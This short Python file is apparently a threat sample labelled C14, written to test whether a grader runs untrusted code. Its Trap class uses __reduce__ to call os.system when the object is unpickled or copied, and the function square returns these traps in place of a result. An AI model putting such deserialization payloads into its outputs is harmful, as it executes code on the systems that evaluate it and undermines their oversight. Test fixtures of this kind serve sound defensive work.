"""Returns an object that runs a command wherever it is unpickled or copied.

Threat: C14.
"""

import os


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled_by_the_grader",)

    __deepcopy__ = __copy__ = __reduce__


def square(x):
    return [Trap(), {"trap": Trap()}]
